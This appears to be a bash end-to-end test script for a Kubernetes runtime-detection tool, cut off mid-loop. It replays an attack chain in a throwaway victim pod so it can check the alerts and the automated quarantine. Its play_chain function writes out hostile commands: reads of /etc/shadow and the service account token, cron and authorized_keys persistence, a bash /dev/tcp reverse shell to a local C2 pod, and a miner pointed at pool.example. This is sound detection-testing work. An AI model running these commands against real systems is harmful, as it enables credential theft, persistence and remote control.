#!/usr/bin/env bash
# Real-cluster end-to-end tier (`cargo xtask cluster test`): Lanner installed with helm on the
# cluster of cluster.sh, attacked through `kubectl exec` in a real pod.
#
#   xtask/kube/cluster-e2e.sh install   images into containerd + `helm install` (values: cluster-values.yaml),
#                                       wait for the DaemonSet and the triage Deployment to be Ready
#   xtask/kube/cluster-e2e.sh test      install, then the attack and the checks below
#   xtask/kube/cluster-e2e.sh uninstall helm uninstall + the test namespace
#
# Checks (each failure exits 1 with what was seen):
#   * every pod of the release Ready, the agent with the chart's exact securityContext;
#   * a victim Deployment (image lanner.local/victim: busybox + bash + escalate) and a C2 pod;
#     the simulation's whole kill chain played with `kubectl exec` in the victim pod (CHAIN below:
#     recon, a shell with a terminal, /proc/1/environ, /etc/shadow, the service account token,
#     cron and authorized_keys persistence, a bash /dev/tcp reverse shell the C2 pod must receive,
#     a miner, setuid(0) as uid 1000);
#   * the agent pod's log carries every step's expected alert (rule, priority, MITRE tag) with the
#     real pod name, namespace, container id, container name, image and node (e2e_alerts.py,
#     which also writes the step table with each alert's latency);
#   * a triage worker logged "incident triaged" for those alerts (uuid) and its /metrics (through
#     the API server's pod proxy) counts the incidents;
#   * `helm upgrade` with triage.policy.dryRun=false (cluster-values-act.yaml): the agent pod is
#     not restarted; a new shell in the victim gets it quarantined for real (label
#     lanner.io/quarantine=true + NetworkPolicy lanner-quarantine), a miner-named process gets
#     it deleted, and the ReplicaSet replaces it; MTTA/MTTR read from the workers' /metrics;
#   * `helm upgrade` adding a rule file (cluster-values-rules.yaml): the agent reloads it without a
#     restart and alerts on it; with the workers scaled to 0, an alert raised and the agent pod
#     deleted, the new agent pod delivers the spooled alert once the workers are back.
# Root only (the cluster is); never skips.
set -euo pipefail

E2E_HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
# shellcheck source=xtask/kube/cluster.sh
source "$E2E_HERE/cluster.sh"
# shellcheck source=xtask/deploy/lib.sh
source "$E2E_HERE/../deploy/lib.sh"

NS=lanner
RELEASE=lanner
VICTIM_NS=lanner-e2e-victim
CHART="$REPO_ROOT/deploy/helm/lanner"
VALUES="$E2E_HERE/cluster-values.yaml"
ACT_VALUES="$E2E_HERE/cluster-values-act.yaml"
RULES_VALUES="$E2E_HERE/cluster-values-rules.yaml"
LLM_VALUES="$E2E_HERE/cluster-values-llm.yaml"

elog() { printf 'cluster-e2e: %s\n' "$*" >&2; }
fail() {
    printf 'cluster-e2e: FAIL: %s\n' "$*" >&2
    KCTL get pods -A -o wide >&2 2>/dev/null || true
    exit 1
}

helm_cmd() { # ACTION [ARGS]
    "$DEPLOY_VENV/bin/python" "$E2E_HERE/helm.py" "$1" --kubeconfig "$CRUN/admin.kubeconfig" \
        --namespace "$NS" --release "$RELEASE" "${@:2}"
}

cmd_install() {
    need_root
    cl_healthy || fail "the cluster is not up (cargo xtask cluster up)"
    ensure_venv || fail "the deploy venv (helm SDK) could not be set up"
    cmd_image_import
    local t0
    t0=$(date +%s)
    if [ -n "$(KCTL get secret -n "$NS" -l "owner=helm,name=$RELEASE" -o name 2>/dev/null)" ]; then
        helm_cmd upgrade --chart "$CHART" --values "$VALUES" || fail "helm upgrade failed"
    else
        helm_cmd install --chart "$CHART" --values "$VALUES" --create-namespace || fail "helm install failed"
    fi
    KCTL -n "$NS" rollout status daemonset/lanner-agent --timeout=180s \
        || { KCTL -n "$NS" describe pods -l app.kubernetes.io/component=agent | tail -n 30 >&2; fail "agent DaemonSet not Ready"; }
    KCTL -n "$NS" rollout status deployment/lanner-triage --timeout=180s \
        || { KCTL -n "$NS" describe pods -l app.kubernetes.io/component=triage | tail -n 30 >&2; fail "triage Deployment not Ready"; }
    # Every pod of the release Ready (pods of a replaced ReplicaSet may still be terminating).
    local notready i
    for i in $(seq 1 60); do
        notready=$(KCTL get pods -n "$NS" -o 'jsonpath={range .items[*]}{.metadata.name}{" "}{.status.conditions[?(@.type=="Ready")].status}{" "}{.metadata.deletionTimestamp}{"\n"}{end}' | awk '$2 != "True"')
        [ -z "$notready" ] && break
        sleep 1
    done
    [ -z "$notready" ] || fail "pods not Ready: $notready"
    elog "release $RELEASE Ready in $(($(date +%s) - t0)) s:"
    KCTL get pods -n "$NS" -o wide >&2
}

# The agent pod must run with the chart's securityContext, not a weakened one.
check_security_context() {
    local sc
    sc=$(KCTL get ds -n "$NS" lanner-agent -o json)
    python3 - "$sc" <<'EOF' || fail "agent securityContext differs from the chart's"
import json, sys
ds = json.loads(sys.argv[1])
spec = ds["spec"]["template"]["spec"]
c = spec["containers"][0]["securityContext"]
problems = []
if not spec.get("hostPID"): problems.append("hostPID is not true")
if c.get("privileged"): problems.append("privileged")
if c.get("allowPrivilegeEscalation") is not False: problems.append("allowPrivilegeEscalation not false")
if c.get("readOnlyRootFilesystem") is not True: problems.append("root filesystem writable")
caps = c.get("capabilities", {})
if caps.get("drop") != ["ALL"]: problems.append(f"drop={caps.get('drop')}")
if sorted(caps.get("add", [])) != sorted(["BPF", "PERFMON", "SYS_PTRACE", "DAC_READ_SEARCH"]):
    problems.append(f"add={caps.get('add')}")
if c.get("seccompProfile", {}).get("type") != "RuntimeDefault": problems.append("seccomp not RuntimeDefault")
if problems:
    sys.exit("agent securityContext: " + ", ".join(problems))
print("cluster-e2e: agent securityContext: hostPID, not privileged, read-only root, drop ALL + "
      + ",".join(caps["add"]) + ", seccomp RuntimeDefault", file=sys.stderr)
EOF
}

# The simulation's kill chain (xtask/src/simulate/chain.rs), step for step, as
# STEP|RULE|PRIORITY|TECHNIQUE|PROC_NAME: what each step must raise (e2e_alerts.py checks it).
# Differences from the simulation, each forced by running in a real pod: the shell gets a real
# terminal (`kubectl exec -it` under script(1)) instead of `sh -i` on a pipe; the environ read
# targets the container's PID 1 (`sleep`), the pod's main process; the token is the real
# projected service account token; the authorized_keys file is /root/.ssh's; the C2 host is a
# pod on the same node (its log must show the bytes); the miner is busybox copied to
# /tmp/xmrig; the setuid(0) attempt is the victim image's /usr/local/bin/escalate (no python3
# in a busybox image; same syscalls: drop to uid 1000, then setuid(0)).
CHAIN=(
    "recon: id|Discovery command in container|Informational|T1033|id"
    "recon: uname -a|Discovery command in container|Informational|T1082|uname"
    "recon: ps + /proc/1/status|Discovery command in container|Informational|T1057|ps"
    "interactive shell (kubectl exec -it)|Terminal shell in container|Warning|T1059.004|"
    "environ of another process|Read process environment or memory|Warning|T1003.007|"
    "read /etc/shadow|Read sensitive file untrusted|Warning|T1003.008|"
    "read service account token|Read service account token with file utility|Warning|T1528|"
    "cron persistence|Schedule cron job|Warning|T1053.003|"
    "SSH authorized_keys|Modify SSH authorized keys|Error|T1098.004|"
    "reverse shell to C2:4444|Reverse shell command line|Critical|T1059.004|"
    "reverse shell to C2:4444|Outbound connection to suspicious port|Warning|T1071|"
    "crypto miner|Crypto miner executed|Critical|T1496|"
    "crypto miner|Crypto mining pool in command line|Critical|T1496|"
    "setuid(0) as uid 1000|Non sudo setuid|Critical|T1548.001|"
)

# play_chain POD C2_IP: every step with `kubectl exec` into the real pod.
play_chain() {
    local pod=$1 c2=$2 out="$CRUN/logs/e2e-chain-exec.log" t0
    t0=$(date +%s)
    vx() { KCTL -n "$VICTIM_NS" exec "$pod" -- "$@" >>"$out" 2>&1; }
    : >"$out"
    elog "kill chain in $pod: recon (id, uname -a, ps -ef, /proc/1/status)"
    vx id || fail "exec id failed ($out)"
    vx uname -a || fail "exec uname failed ($out)"
    vx ps -ef || fail "exec ps failed ($out)"
    vx cat /proc/1/status || fail "exec cat /proc/1/status failed ($out)"
    elog "kill chain: an interactive shell with a terminal (kubectl exec -it under script)"
    script -qec "$KUBECTL --kubeconfig $CRUN/admin.kubeconfig -n $VICTIM_NS exec -it $pod -- sh -c 'id; exit 0'" /dev/null \
        >"$CRUN/logs/e2e-exec.log" 2>&1 || { cat "$CRUN/logs/e2e-exec.log" >&2; fail "kubectl exec -it into $pod failed"; }
    grep -q 'uid=0' "$CRUN/logs/e2e-exec.log" || { cat "$CRUN/logs/e2e-exec.log" >&2; fail "the exec'd shell did not run"; }
    elog "kill chain: credentials (/proc/1/environ, /etc/shadow, the service account token)"
    vx cat /proc/1/environ || fail "exec cat /proc/1/environ failed ($out)"
    vx cat /etc/shadow || fail "exec cat /etc/shadow failed ($out)"
    vx cat /var/run/secrets/kubernetes.io/serviceaccount/token || fail "exec cat token failed ($out)"
    elog "kill chain: persistence (/etc/cron.d, /root/.ssh/authorized_keys)"
    vx sh -c "echo '* * * * * root /tmp/xmrig' > /etc/cron.d/lnr-e2e" || fail "exec cron failed ($out)"
    vx sh -c "echo 'ssh-ed25519 AAAAlnre2e e2e@c2' >> /root/.ssh/authorized_keys" || fail "exec ssh failed ($out)"
    elog "kill chain: reverse shell to the C2 pod $c2:4444"
    vx bash -c "exec 3<>/dev/tcp/$c2/4444; echo lanner-e2e-c2 >&3" || fail "exec reverse shell failed ($out)"
    local i got=""
    for i in $(seq 1 20); do
        got=$(KCTL -n "$VICTIM_NS" logs c2 2>/dev/null || true)
        [ -n "$(printf '%s' "$got" | grep -F lanner-e2e-c2)" ] && break
        sleep 0.5
    done
    [ -n "$(printf '%s' "$got" | grep -F lanner-e2e-c2)" ] || fail "the C2 pod never received the reverse shell's bytes (log: $got)"
    elog "kill chain: the C2 pod received the reverse shell's bytes"
    elog "kill chain: a miner (/tmp/xmrig -o stratum+tcp://...), setuid(0) as uid 1000"
    vx cp /bin/busybox /tmp/xmrig || fail "exec cp failed ($out)"
    # busybox run as xmrig says "applet not found" (exit 127): the exec is what counts.
    vx /tmp/xmrig -o stratum+tcp://pool.example:3333 || true
    vx /usr/local/bin/escalate || fail "escalate: setuid(0) was not refused ($out)"
    elog "kill chain: 12 steps played in $(($(date +%s) - t0)) s"
}

cmd_test() {
    local t0
    t0=$(date +%s)
    cmd_install
    check_security_context

    elog "C2 pod and victim Deployment in $VICTIM_NS"
    KCTL create namespace "$VICTIM_NS" --dry-run=client -o yaml | KCTL apply -f - >/dev/null
    KCTL -n "$VICTIM_NS" delete deployment victim --ignore-not-found --wait=true >/dev/null
    # The old victim's pods go in the background: on a cluster still up from a previous run
    # a Terminating one would be taken for the new victim below.
    KCTL -n "$VICTIM_NS" wait --for=delete pod -l app=victim --timeout=120s >/dev/null 2>&1 || true
    KCTL -n "$VICTIM_NS" delete pod c2 --ignore-not-found --wait=true >/dev/null
    # The attacker's C2 host: a pod on the same node bridge (traffic never leaves the machine)
    # that prints what the reverse shell sends.
    KCTL -n "$VICTIM_NS" run c2 --image="$BUSYBOX_REF" --image-pull-policy=Never --restart=Never \
        -- sh -c 'nc -l -p 4444 </dev/null; sleep 36000' >/dev/null || fail "could not create the C2 pod"
    KCTL -n "$VICTIM_NS" create deployment victim --image="$VICTIM_REF" -- sleep 36000 >/dev/null \
        || fail "could not create the victim Deployment"
    KCTL -n "$VICTIM_NS" rollout status deployment/victim --timeout=120s || fail "victim not Ready"
    KCTL -n "$VICTIM_NS" wait pod/c2 --for=condition=Ready --timeout=120s >/dev/null || fail "C2 pod not Ready"
    local pod cid cname image c2ip
    pod=$(KCTL -n "$VICTIM_NS" get pods -l app=victim -o 'jsonpath={.items[0].metadata.name}')
    cid=$(KCTL -n "$VICTIM_NS" get pod "$pod" -o 'jsonpath={.status.containerStatuses[0].containerID}')
    cname=$(KCTL -n "$VICTIM_NS" get pod "$pod" -o 'jsonpath={.status.containerStatuses[0].name}')
    image=$(KCTL -n "$VICTIM_NS" get pod "$pod" -o 'jsonpath={.spec.containers[0].image}')
    c2ip=$(KCTL -n "$VICTIM_NS" get pod c2 -o 'jsonpath={.status.podIP}')
    [ -n "$pod" ] && [ -n "$cid" ] || fail "victim pod has no container id yet"
    [ -n "$c2ip" ] || fail "the C2 pod has no IP"
    elog "victim pod $pod, container $cname ${cid#containerd://}, image $image; C2 $c2ip:4444"

    play_chain "$pod" "$c2ip"

    # Every step's alerts from the agent pod's log (with the runtime's line timestamps).
    local agent_pod found_alerts="" uuids="" i e
    local -a expects=()
    for e in "${CHAIN[@]}"; do expects+=(--expect "$e"); done
    agent_pod=$(KCTL -n "$NS" get pods -l app.kubernetes.io/component=agent -o 'jsonpath={.items[0].metadata.name}')
    for i in $(seq 1 30); do
        KCTL -n "$NS" logs --timestamps "$agent_pod" >"$CRUN/logs/e2e-agent.log" 2>&1 || true
        if found_alerts=$(python3 "$E2E_HERE/e2e_alerts.py" "$CRUN/logs/e2e-agent.log" --pod "$pod" --ns "$VICTIM_NS" \
            --container-id "${cid#containerd://}" --container-name "$cname" --image "${image%:*}" --node "$NODE" \
            "${expects[@]}" --table "$CRUN/logs/e2e-chain.md" 2>"$CRUN/logs/e2e-alerts.err"); then
            break
        fi
        found_alerts=""
        sleep 1
    done
    [ -n "$found_alerts" ] || { cat "$CRUN/logs/e2e-alerts.err" >&2; cat "$CRUN/logs/e2e-chain.md" >&2 || true;
        # The agent's own log lines (pod watch, cgroup layout, probes), not its alerts: the saved
        # file goes with the cluster's teardown, and CI keeps only what is printed.
        elog "the agent's log without its alerts (last 60 lines):"
        grep -v '"rule":' "$CRUN/logs/e2e-agent.log" | tail -n 60 >&2 || true
        fail "the kill chain was not detected with the real pod metadata in $agent_pod's log (saved: $CRUN/logs/e2e-agent.log)"; }
    cat "$CRUN/logs/e2e-alerts.err" >&2
    elog "kill chain in the real pod: $(echo "$found_alerts" | wc -l) of ${#CHAIN[@]} expected alerts, table: $CRUN/logs/e2e-chain.md"
    cat "$CRUN/logs/e2e-chain.md" >&2
    # What the DaemonSet's agent chose on this node: the v1 hierarchy it reads ids in
    # (hybrid hosts) and plain BTF loads or helper reads (reported, kernel-dependent).
    elog "agent choices on this node:"
    grep -E 'v1 cgroup hierarchy mounted|kernel reads: ' "$CRUN/logs/e2e-agent.log" | cut -c1-400 >&2 || elog "  (no such log line)"
    # Cgroup ids resolve by file handle under the chart's capabilities and seccomp profile:
    # without, a container's first events can be reported as host ones (docs/enrichment.md).
    grep 'container resolution from cgroup ids' "$CRUN/logs/e2e-agent.log" | cut -c1-400 >&2
    [ -n "$(grep 'container resolution from cgroup ids' "$CRUN/logs/e2e-agent.log" | grep -F '"by":"file handle"')" ] \
        || fail "the agent pod does not resolve cgroup ids by file handle (its log line above says why)"
    # The worker's dry-run check follows the shell and the /etc/shadow read.
    uuids=$(printf '%s\n' "$found_alerts" | awk -F'\t' '$1 == "Terminal shell in container" || $1 == "Read sensitive file untrusted" {print $2}')
    [ "$(echo "$uuids" | wc -w)" -eq 2 ] || fail "expected the shell's and the /etc/shadow read's uuids, got: $uuids"

    # The triage worker received and recorded them.
    local found="" u tpods
    tpods=$(KCTL -n "$NS" get pods -l app.kubernetes.io/component=triage -o 'jsonpath={.items[*].metadata.name}')
    for i in $(seq 1 30); do
        : >"$CRUN/logs/e2e-triage.log"
        for p in $tpods; do KCTL -n "$NS" logs "$p" >>"$CRUN/logs/e2e-triage.log" 2>&1 || true; done
        found=yes
        for u in $uuids; do
            [ -n "$(grep "incident triaged" "$CRUN/logs/e2e-triage.log" | grep -F -- "$u")" ] || found=""
        done
        [ -n "$found" ] && break
        sleep 1
    done
    [ -n "$found" ] || { tail -n 20 "$CRUN/logs/e2e-triage.log" >&2; fail "the triage worker did not record every alert ($uuids)"; }
    grep "incident triaged" "$CRUN/logs/e2e-triage.log" | grep -F "$(echo "$uuids" | head -n1)" | head -n1 >&2
    local incidents=0 m
    for p in $tpods; do
        m=$(KCTL get --raw "/api/v1/namespaces/$NS/pods/$p:9377/proxy/metrics" 2>/dev/null \
            | awk '/^lanner_triage_incidents_total/ {s += $NF} END {print s + 0}')
        incidents=$((incidents + ${m%.*}))
    done
    [ "$incidents" -ge "$(echo "$uuids" | wc -w)" ] \
        || fail "triage /metrics (pod proxy) counts $incidents incidents, expected >= $(echo "$uuids" | wc -w)"
    elog "triage: every alert recorded ('incident triaged'), lanner_triage_incidents_total=$incidents via the pod proxy"
    cmd_act_phase "$pod"
    cmd_rules_spool_phase
    cmd_llm_phase
    elog "PASS in $(($(date +%s) - t0)) s"
}

# metric_sum NAME: the sum of a metric over the worker pods (API server pod proxy).
metric_sum() {
    local p total=0 v
    for p in $(KCTL -n "$NS" get pods -l app.kubernetes.io/component=triage -o 'jsonpath={.items[*].metadata.name}'); do
        v=$(KCTL get --raw "/api/v1/namespaces/$NS/pods/$p:9377/proxy/metrics" 2>/dev/null \
            | awk -v m="$1" '$1 == m || index($1, m "{") == 1 {s += $NF} END {printf "%.3f", s + 0}')
        total=$(awk -v a="$total" -v b="$v" 'BEGIN {printf "%.3f", a + b}')
    done
    printf '%s\n' "$total"
}

cmd_act_phase() {
    local pod=$1 agent_before agent_after i
    agent_before=$(KCTL -n "$NS" get pods -l app.kubernetes.io/component=agent \
        -o 'jsonpath={.items[0].metadata.name} {.items[0].status.containerStatuses[0].restartCount}')
    elog "helm upgrade: triage.policy.dryRun=false"
    helm_cmd upgrade --chart "$CHART" --values "$VALUES" --values "$ACT_VALUES" || fail "helm upgrade failed"
    KCTL -n "$NS" rollout status deployment/lanner-triage --timeout=180s || fail "triage not Ready after the upgrade"
    KCTL -n "$NS" rollout status daemonset/lanner-agent --timeout=180s || fail "agent not Ready after the upgrade"
    agent_after=$(KCTL -n "$NS" get pods -l app.kubernetes.io/component=agent \
        -o 'jsonpath={.items[0].metadata.name} {.items[0].status.containerStatuses[0].restartCount}')
    [ "$agent_before" = "$agent_after" ] || fail "the agent pod changed across a worker-only upgrade ($agent_before -> $agent_after)"
    # Both worker replicas of the new revision serve (the agent reconnects to the Service).
    sleep 3

    elog "attack again: a shell with a terminal in $pod (policy: quarantine_pod)"
    script -qec "$KUBECTL --kubeconfig $CRUN/admin.kubeconfig -n $VICTIM_NS exec -it $pod -- sh -c 'id; exit 0'" /dev/null \
        >"$CRUN/logs/e2e-exec2.log" 2>&1 || { cat "$CRUN/logs/e2e-exec2.log" >&2; fail "kubectl exec -it (2) failed"; }
    local label np=""
    for i in $(seq 1 45); do
        label=$(KCTL -n "$VICTIM_NS" get pod "$pod" -o 'jsonpath={.metadata.labels.lanner\.io/quarantine}' 2>/dev/null || true)
        np=$(KCTL -n "$VICTIM_NS" get networkpolicy lanner-quarantine -o name 2>/dev/null || true)
        [ "$label" = true ] && [ -n "$np" ] && break
        sleep 1
    done
    [ "$label" = true ] && [ -n "$np" ] || fail "victim not quarantined (label lanner.io/quarantine='$label', NetworkPolicy: '${np:-none}')"
    elog "quarantined: $pod labelled lanner.io/quarantine=true, $np present in $VICTIM_NS"

    elog "a miner-named process in $pod (policy: delete_pod)"
    KCTL -n "$VICTIM_NS" exec "$pod" -- sh -c 'cp /bin/busybox /tmp/xmrig && /tmp/xmrig --version; true' >/dev/null 2>&1 || true
    local gone="" newpod=""
    for i in $(seq 1 60); do
        if [ -z "$gone" ] && ! KCTL -n "$VICTIM_NS" get pod "$pod" >/dev/null 2>&1; then gone=yes; fi
        if [ -z "$gone" ]; then
            # Deleted with grace 0 by the worker; a pod object may linger while terminating.
            [ -n "$(KCTL -n "$VICTIM_NS" get pod "$pod" -o 'jsonpath={.metadata.deletionTimestamp}' 2>/dev/null)" ] && gone=yes
        fi
        newpod=$(KCTL -n "$VICTIM_NS" get pods -l app=victim -o 'jsonpath={range .items[*]}{.metadata.name}{" "}{.status.phase}{"\n"}{end}' \
            | awk -v old="$pod" '$1 != old && $2 == "Running" {print $1; exit}')
        [ -n "$gone" ] && [ -n "$newpod" ] && break
        sleep 1
    done
    [ -n "$gone" ] || fail "the worker did not delete $pod"
    [ -n "$newpod" ] || fail "the ReplicaSet did not replace $pod with a Running pod"
    elog "deleted: $pod; the ReplicaSet replaced it with $newpod"

    local acts mtta_n mtta_s mttr_n mttr_s
    acts=$(metric_sum lanner_triage_actions_total)
    mtta_n=$(metric_sum lanner_triage_mtta_seconds_count)
    mtta_s=$(metric_sum lanner_triage_mtta_seconds_sum)
    mttr_n=$(metric_sum lanner_triage_mttr_seconds_count)
    mttr_s=$(metric_sum lanner_triage_mttr_seconds_sum)
    awk -v n="$mttr_n" 'BEGIN {exit !(n >= 2)}' || fail "worker /metrics: lanner_triage_mttr_seconds_count=$mttr_n, expected >= 2 (quarantine + delete)"
    elog "worker /metrics (pod proxy): actions_total=$acts, MTTA mean $(awk -v s="$mtta_s" -v n="$mtta_n" 'BEGIN {printf "%.3f", n ? s / n : 0}') s over $mtta_n, MTTR mean $(awk -v s="$mttr_s" -v n="$mttr_n" 'BEGIN {printf "%.3f", n ? s / n : 0}') s over $mttr_n"
}

agent_pod_state() {
    KCTL -n "$NS" get pods -l app.kubernetes.io/component=agent \
        -o 'jsonpath={.items[0].metadata.name} {.items[0].status.containerStatuses[0].restartCount}'
}

# wait_agent_alert MARKER -> uuid of the e2e marker rule's alert whose cmdline has MARKER.
wait_agent_alert() {
    local i u agent_pod
    for i in $(seq 1 45); do
        agent_pod=$(KCTL -n "$NS" get pods -l app.kubernetes.io/component=agent -o 'jsonpath={.items[0].metadata.name}')
        u=$(KCTL -n "$NS" logs "$agent_pod" 2>/dev/null | python3 -c '
import json, sys
for line in sys.stdin:
    try:
        a = json.loads(line)
    except ValueError:
        continue
    if a.get("rule") == "Lanner e2e marker executed" and sys.argv[1] in str(a.get("output_fields", {}).get("proc.cmdline")):
        print(a["uuid"]); break' "$1")
        [ -n "$u" ] && { printf '%s\n' "$u"; return 0; }
        sleep 1
    done
    return 1
}

# stop_workers: scale the workers to 0 and wait until their pods are gone (120 s at most),
# printing how long it took and each worker's last log lines.
stop_workers() {
    local t_scale wp tails="" i
    rm -f "$CRUN"/logs/e2e-stop-*.log
    # The worker exits within seconds of SIGTERM (tests/tests/triage_shutdown_e2e.rs); the
    # kubelet's own stop and status sync add more under CI load.
    # Each worker's container log (the node's CRI file, runtime timestamps) followed through its
    # stop: says whether a slow stop is the process (no "triage worker stopping" line, or a
    # late one) or the kubelet's teardown after it.
    for wp in $(KCTL -n "$NS" get pods -l app.kubernetes.io/component=triage -o 'jsonpath={.items[*].metadata.name}'); do
        tail -n 0 -F /var/log/pods/"${NS}_${wp}"_*/*/*.log >"$CRUN/logs/e2e-stop-$wp.log" 2>/dev/null &
        tails="$tails $!"
    done
    t_scale=$(date +%s)
    KCTL -n "$NS" scale deployment/lanner-triage --replicas=0 >/dev/null
    for i in $(seq 1 120); do
        [ -z "$(KCTL -n "$NS" get pods -l app.kubernetes.io/component=triage -o name 2>/dev/null)" ] && break
        sleep 1
    done
    if [ -n "$(KCTL -n "$NS" get pods -l app.kubernetes.io/component=triage -o name 2>/dev/null)" ]; then
        KCTL -n "$NS" get pods -l app.kubernetes.io/component=triage -o wide >&2 || true
        # shellcheck disable=SC2086 # the pids
        kill $tails 2>/dev/null || true
        tail -n 3 "$CRUN"/logs/e2e-stop-*.log >&2 || true
        fail "workers did not stop within 120 s of scaling to 0"
    fi
    # shellcheck disable=SC2086 # the pids
    kill $tails 2>/dev/null || true
    elog "workers gone $(($(date +%s) - t_scale)) s after the scale to 0 (at $(date -u -d "@$t_scale" +%H:%M:%S)); their last log lines:"
    for wp in "$CRUN"/logs/e2e-stop-*.log; do
        printf '  %s: %s\n' "$(basename "$wp" .log)" \
            "$(tail -n 3 "$wp" | sed -E 's/^([^ ]+) [a-z]+ [A-Z] .*"message":"([^"]*)".*/\1 \2;/' | tr '\n' ' ')" >&2
    done
}

cmd_rules_spool_phase() {
    local pod before after i u
    pod=$(KCTL -n "$VICTIM_NS" get pods -l app=victim --field-selector=status.phase=Running \
        -o 'jsonpath={.items[0].metadata.name}')
    before=$(agent_pod_state)
    elog "helm upgrade: one more rule file in the rules ConfigMap"
    helm_cmd upgrade --chart "$CHART" --values "$VALUES" --values "$ACT_VALUES" --values "$RULES_VALUES" \
        || fail "helm upgrade (rules) failed"
    local reloaded=""
    for i in $(seq 1 90); do
        # (no `| grep -q` under pipefail: its early exit fails the pipeline with SIGPIPE)
        if [ -n "$(KCTL -n "$NS" logs "$(echo "$before" | cut -d' ' -f1)" 2>/dev/null | grep '"rules reloaded"' | grep '60-e2e.yaml')" ]; then
            reloaded=yes
            break
        fi
        sleep 1
    done
    [ -n "$reloaded" ] || fail "the agent did not reload the rules ConfigMap (no 'rules reloaded' naming 60-e2e.yaml in 90 s)"
    KCTL -n "$VICTIM_NS" exec "$pod" -- /bin/true lanner-e2e-marker-reload >/dev/null || fail "exec (marker) failed"
    u=$(wait_agent_alert lanner-e2e-marker-reload) || fail "no alert from the reloaded rule"
    after=$(agent_pod_state)
    [ "$before" = "$after" ] || fail "the agent pod restarted for a rules change ($before -> $after)"
    elog "rules reloaded from the ConfigMap without a restart ($after); the new rule alerted (uuid $u)"

    elog "workers scaled to 0; alert; agent pod deleted; workers back"
    stop_workers
    KCTL -n "$VICTIM_NS" exec "$pod" -- /bin/true lanner-e2e-marker-spool >/dev/null || fail "exec (spool marker) failed"
    u=$(wait_agent_alert lanner-e2e-marker-spool) || fail "no alert for the spool marker"
    KCTL -n "$NS" delete pod "$(echo "$after" | cut -d' ' -f1)" --wait=true >/dev/null || fail "deleting the agent pod failed"
    KCTL -n "$NS" rollout status daemonset/lanner-agent --timeout=120s || fail "no new agent pod"
    KCTL -n "$NS" scale deployment/lanner-triage --replicas=2 >/dev/null
    KCTL -n "$NS" rollout status deployment/lanner-triage --timeout=180s || fail "workers not back"
    local found="" p
    for i in $(seq 1 60); do
        for p in $(KCTL -n "$NS" get pods -l app.kubernetes.io/component=triage -o 'jsonpath={.items[*].metadata.name}'); do
            if [ -n "$(KCTL -n "$NS" logs "$p" 2>/dev/null | grep "incident triaged" | grep -F -- "$u")" ]; then found=$p; fi
        done
        [ -n "$found" ] && break
        sleep 1
    done
    [ -n "$found" ] || fail "the alert raised while the workers were down ($u) never reached them after the agent pod restart"
    elog "spooled alert $u delivered by the new agent pod ($(agent_pod_state)) to $found: none lost"
}

# The chart's local LLM for real: the model on a hostPath PersistentVolume pre-bound to the
# chart's claim, `helm upgrade` with llm.enabled (cluster-values-llm.yaml), the llama.cpp
# server pod Ready (its /health through the pod proxy), and an incident whose LLM call got an
# answer (lanner_triage_llm_latency_seconds_count up; failures, e.g. timeouts, are reported).
cmd_llm_phase() {
    local t0 model dir pod i n0 n fails
    t0=$(date +%s)
    model=$(cat "$CACHE/llm/model-path" 2>/dev/null || true)
    if [ ! -f "$model" ]; then
        bash "$REPO_ROOT/xtask/llm/llm.sh" install >&2 || fail "xtask/llm/llm.sh install failed"
        model=$(cat "$CACHE/llm/model-path")
    fi
    dir="$CRUN/llm-models"
    mkdir -p "$dir"
    # Never rewrite the file in place: a running server has it mmap()ed (SIGBUS, exit 135).
    if ! cmp -s "$model" "$dir/SmolLM2-135M-Instruct.Q4_1.gguf"; then
        cp "$model" "$dir/.model.tmp"
        chmod 0644 "$dir/.model.tmp"
        mv -f "$dir/.model.tmp" "$dir/SmolLM2-135M-Instruct.Q4_1.gguf"
    fi
    chmod 0755 "$dir"
    KCTL apply -f - >/dev/null <<EOF || fail "could not create the model PersistentVolume"
apiVersion: v1
kind: PersistentVolume
metadata:
  name: lanner-e2e-llm-models
spec:
  capacity:
    storage: 4Gi
  accessModes: [ReadWriteOnce]
  persistentVolumeReclaimPolicy: Retain
  claimRef:
    namespace: $NS
    name: $RELEASE-llm-models
  hostPath:
    path: $dir
    type: Directory
EOF
    # A previous run's claim, deleted with its release, leaves the volume Released (claimRef
    # still names the old claim's uid): free it for this release's claim of the same name.
    if [ "$(KCTL get pv lanner-e2e-llm-models -o 'jsonpath={.status.phase}')" = Released ]; then
        KCTL patch pv lanner-e2e-llm-models --type json -p '[{"op":"remove","path":"/spec/claimRef/uid"}]' \
            >/dev/null || fail "could not free the Released model PersistentVolume"
    fi
    # The image when `cargo xtask image` had no LLM venv to build it from.
    if ! ctr --address "$CRUN/containerd.sock" -n k8s.io images ls -q | grep -qx "$LLM_REF"; then
        build_llm_image
        import_images "$CRUN/containerd.sock" "$IMG_OUT/lanner-llm.tar"
    fi
    elog "helm upgrade: llm.enabled (lanner.local/lanner-llm, SmolLM2-135M on a hostPath PV)"
    helm_cmd upgrade --chart "$CHART" --values "$VALUES" --values "$RULES_VALUES" --values "$LLM_VALUES" \
        || fail "helm upgrade (llm) failed"
    KCTL -n "$NS" rollout status deployment/lanner-llm --timeout=180s \
        || { KCTL -n "$NS" describe pods -l app.kubernetes.io/component=llm | tail -n 30 >&2; fail "LLM Deployment not Ready"; }
    KCTL -n "$NS" rollout status deployment/lanner-triage --timeout=180s || fail "triage not Ready after the LLM upgrade"
    pod=$(KCTL -n "$NS" get pods -l app.kubernetes.io/component=llm -o 'jsonpath={.items[0].metadata.name}')
    [ "$(KCTL get --raw "/api/v1/namespaces/$NS/pods/$pod:8080/proxy/health" 2>/dev/null)" = '{"status":"ok"}' ] \
        || fail "the LLM pod's /health (pod proxy) is not ok"
    elog "LLM server $pod Ready $(($(date +%s) - t0)) s after the phase began; /health ok"
    # New workers: their counters start at 0. One alert of a new rule for the pod (the dedup
    # window folds repeats of the same rule into one incident, without an LLM call); should a
    # call time out (the worker's 30 s; one took 20-23 s here under a parallel build), the
    # next alert, of another rule, 40 s later: at least one call must be answered.
    n0=$(metric_sum lanner_triage_llm_latency_seconds_count)
    local vpod k=0 cmd
    local -a triggers=("cat /etc/shadow" "cat /proc/1/environ" "cat /var/run/secrets/kubernetes.io/serviceaccount/token")
    vpod=$(KCTL -n "$VICTIM_NS" get pods -l app=victim --field-selector=status.phase=Running -o 'jsonpath={.items[0].metadata.name}')
    local start now next
    start=$(date +%s)
    next=$start
    while now=$(date +%s) && [ "$now" -lt $((start + 120)) ]; do
        if [ "$now" -ge "$next" ] && [ "$k" -lt ${#triggers[@]} ]; then
            cmd=${triggers[$k]}
            k=$((k + 1))
